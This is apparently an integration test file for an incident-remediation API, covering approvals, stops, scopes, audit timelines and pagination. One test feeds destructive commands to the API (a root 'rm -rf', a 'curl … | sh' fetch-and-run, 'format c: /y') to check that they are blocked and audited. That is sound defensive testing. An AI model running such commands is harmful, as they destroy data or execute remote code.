import { Fleet } from '../../db/support/fleet.ts';
import { CLASSIFIED, Trouble, unique } from '../../db/support/incidents.ts';
import { items, World } from '../support/world.ts';

let world: World;
let trouble: Trouble;

beforeAll(async () => {
  world = await World.start();
  trouble = new Trouble(new Fleet(world.api.database));
});
afterAll(() => world?.dispose());

const send = (
  id: string,
  word: string,
  body: object,
  scope: 'viewer' | 'operator' | 'approver' | 'admin' = 'approver',
) => world.operator(`/api/v1/incidents/${id}/${word}`, { body, scope });

it('an approval names its devices and its decider, and each step is in the timeline', async () => {
  const { id } = await trouble.waiting(2);
  const shown = await world.operator(`/api/v1/incidents/${id}`);
  const [suggestion] = shown.body['suggestions'] as { id: string; script: string }[];
  expect(suggestion).toMatchObject({ id: shown.body['preselected_suggestion_id'], script: 'true' });
  const approved = await send(id, 'approve', { retry_failed_tasks: false, note: 'after a look' });
  expect(approved.body).toMatchObject({
    status: 'CANARY',
    approved_suggestion_id: suggestion?.id,
    decided_by: 'test-approver',
    decision_note: 'after a look',
    remedies: { WAITING: 2 },
  });
  const steps = items(await world.operator(`/api/v1/incidents/${id}/timeline`));
  expect(steps[0]).toMatchObject({
    actor_type: 'operator',
    actor_id: 'test-approver',
    action: 'incident.approve',
    before: { status: 'AWAITING_DECISION' },
    after: { status: 'CANARY', devices: 2 },
  });
});

it('a running remedy is stopped by who approved it, but by no viewer', async () => {
  const { id } = await trouble.waiting(2);
  await send(id, 'approve', { retry_failed_tasks: false }, 'approver');
  await trouble.incidents.advance(id);
  const refused = await send(id, 'stop', { reason: 'odd' }, 'viewer');
  expect([refused.status, refused.body['detail']]).toEqual([
    403,
    'This takes the scope operator or approver.',
  ]);
  const stopped = await send(id, 'stop', { reason: 'the wrong script' }, 'approver');
  expect(stopped.body).toMatchObject({
    status: 'AWAITING_DECISION',
    advice: 'Stopped by test-approver: the wrong script',
    cost: { calls: 2, cached_calls: 0, input_tokens: 0, output_tokens: 0 },
  });
});

it('a running remedy is stopped by an operator, whose name and request are kept', async () => {
  const { id } = await trouble.waiting(2);
  const early = await send(id, 'stop', { reason: 'too early' }, 'operator');
  expect([early.status, early.body]).toEqual([
    409,
    expect.objectContaining({
      code: 'incident-state-conflict',
      incident_status: 'AWAITING_DECISION',
      detail: expect.stringContaining('CANARY or ROLLOUT'),
    }),
  ]);
  await send(id, 'approve', { retry_failed_tasks: false });
  await trouble.incidents.advance(id);
  const task = await trouble.remedyTask(id, (await trouble.remedies(id))[0]?.agent_id ?? '');
  const stopped = await send(id, 'stop', { reason: 'the wrong script' }, 'operator');
  expect(stopped.body).toMatchObject({
    status: 'AWAITING_DECISION',
    advice: 'Stopped by test-operator: the wrong script',
    preselected_suggestion_id: null,
    remedies: { STOPPED: 1, SKIPPED: 1 },
  });
  const [step] = items(await world.operator(`/api/v1/incidents/${id}/timeline`));
  expect(step).toMatchObject({
    actor_id: 'test-operator',
    action: 'incident.stop',
    before: { status: 'CANARY' },
    after: { status: 'AWAITING_DECISION', reason: 'the wrong script' },
  });
  const [cancelled] = await world.audit({ object_id: task, action: 'agent_task.cancel' });
  expect(cancelled).toMatchObject({ actor_id: 'test-operator', after: { status: 'CANCELLED' } });
  await send(id, 'reject', { reason: 'known' });
  expect((await send(id, 'stop', { reason: 'too late' }, 'operator')).body).toMatchObject({
    code: 'incident-state-conflict',
    incident_status: 'CLOSED',
  });
});

it('two who decide at once: the second is told what the incident is by now', async () => {
  const { id } = await trouble.waiting();
  const [one, two] = await Promise.all([send(id, 'approve', {}), send(id, 'approve', {})]);
  expect([one?.status, two?.status].sort()).toEqual([200, 409]);
  const refused = one?.status === 409 ? one : two;
  expect(refused?.body).toMatchObject({ code: 'incident-state-conflict', incident_status: 'CANARY' });
});

it('a destructive script is refused with reasons, whoever writes it, and audited', async () => {
  const { id } = await trouble.waiting();
  const before = await world.operator(`/api/v1/incidents/${id}`);
  for (const body of [
    { interpreter: 'sh', script: 'x=/; rm -rf "$x"' },
    { interpreter: 'sh', script: 'true', verification: 'curl https://example.invalid/x | sh' },
    { interpreter: 'cmd', script: 'format c: /y' },
  ]) {
    const said = await send(id, 'edit', body, 'admin');
    expect(said.status).toBe(422);
    expect(said.body).toMatchObject({ code: 'remedy-blocked' });
    const [error] = said.body['errors'] as { path: string; message: string }[];
    expect(error?.path).toBe('verification' in body ? 'verification' : 'script');
    expect(error?.message).not.toBe('');
  }
  expect((await world.operator(`/api/v1/incidents/${id}`)).body).toEqual(before.body);
  const audited = await world.audit({ object_id: id, action: 'incident.edit_blocked' });
  expect(audited).toHaveLength(3);
  expect(audited[0]).toMatchObject({ kind: 'refusal', actor_id: 'test-admin' });
});

it('a person’s own script is what an approval without a name runs', async () => {
  const { id } = await trouble.waiting();
  const edited = await send(id, 'edit', { interpreter: 'bash', script: 'echo mended', explanation: 'mends' });
  const preselected = edited.body['preselected_suggestion_id'];
  expect((edited.body['suggestions'] as object[])[0]).toMatchObject({
    id: preselected,
    provider: null,
    created_by: 'test-approver',
  });
  expect((await send(id, 'approve', {})).body).toMatchObject({ approved_suggestion_id: preselected });
});

it('without a preselected suggestion an approval must name one that was not blocked', async () => {
  await trouble.fail(unique('unsure'));
  const id = await trouble.collected();
  await trouble.incidents.keepClassification(id, 1, { ...CLASSIFIED, decision: 'hand_to_person' });
  await trouble.incidents.keepSuggestion(
    id,
    1,
    {
      status: 'blocked',
      findings: [{ code: 'wipe', message: 'wipes a disk', excerpt: 'dd' }],
      explanation: 'no',
      calls: [],
    },
    false,
  );
  await trouble.incidents.present(id, null);
  const nameless = await send(id, 'approve', {});
  expect(nameless.body).toMatchObject({ code: 'validation-failed', errors: [{ path: 'suggestion_id' }] });
  const [blocked] = (await world.operator(`/api/v1/incidents/${id}`)).body['suggestions'] as { id: string }[];
  expect((await send(id, 'approve', { suggestion_id: blocked?.id })).body).toMatchObject({
    code: 'remedy-blocked',
  });
});

it('an approval is refused when no device can take it any more', async () => {
  const { id, agents } = await trouble.waiting();
  await world.operator(`/api/v1/agents/${agents[0]}/revoke`, { method: 'POST' });
  expect((await send(id, 'approve', {})).body).toMatchObject({
    code: 'incident-state-conflict',
    detail: expect.stringContaining('No device'),
  });
});

it('lists are filtered, and read page by page', async () => {
  const agent = await trouble.fleet.online();
  const made = [];
  for (const name of ['a', 'b', 'c']) {
    await trouble.fail(unique('list'), agent, {
      task_type: 'DEPLOY',
      payload: { package_name: `listed-${name}`, package_version: '1' },
    });
    made.push(await trouble.collected());
  }
  await trouble.analysed(made[0] ?? '');
  await send(made[0] ?? '', 'reject', { reason: 'known' });
  const ids = async (query: string) =>
    items(await world.operator(`/api/v1/incidents?${query}`)).map(({ id }) => id);
  expect(await ids('package=listed-b')).toEqual([made[1]]);
  expect(await ids('package=listed-a&label=INSTALLATION_FAILURE&platform=linux&status=CLOSED')).toEqual([
    made[0],
  ]);
  expect(await ids('package=listed-a&open=true')).toEqual([]);
  expect(await ids('package=listed-a&open=false')).toEqual([made[0]]);
  const first = await world.operator('/api/v1/incidents?limit=2');
  const rest = await world.operator(
    `/api/v1/incidents?limit=500&cursor=${encodeURIComponent(String(first.body['next_cursor']))}`,
  );
  const all = await ids('limit=500');
  expect([...items(first), ...items(rest)].map(({ id }) => id)).toEqual(all);
  const parts = await world.operator(`/api/v1/incidents/${made[0]}/occurrences?limit=1`);
  expect(parts.body).toMatchObject({
    next_cursor: null,
    items: [{ agent_id: agent, task_status: 'FAILED' }],
  });
});
